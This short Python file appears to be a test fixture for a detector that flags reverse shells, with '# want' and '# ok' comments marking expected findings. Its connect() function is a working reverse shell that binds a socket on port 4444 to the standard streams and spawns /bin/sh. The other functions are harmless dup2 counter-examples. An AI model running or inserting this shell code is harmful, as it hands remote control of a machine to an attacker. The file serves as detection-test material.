import os
import socket
import subprocess

def connect(host):
    s = socket.socket()
    s.connect((host, 4444))
    os.dup2(s.fileno(), 0)  # want: reverse-shell
    os.dup2(s.fileno(), 1)  # want: reverse-shell
    os.dup2(s.fileno(), 2)  # want: reverse-shell
    subprocess.call(["/bin/sh", "-i"])

def fine(f, s):
    os.dup2(f, 1)  # ok: a descriptor of its own
    os.dup2(s.fileno(), 5)  # ok: no standard stream
    os.dup(s.fileno())  # ok: a copy

def detach(log):
    nothing = open(os.devnull, "r+")
    os.dup2(nothing.fileno(), 0)  # ok: reads from nowhere
    os.dup2(nothing.fileno(), 1)  # ok: writes nowhere
    os.dup2(log.fileno(), 2)  # ok: a log
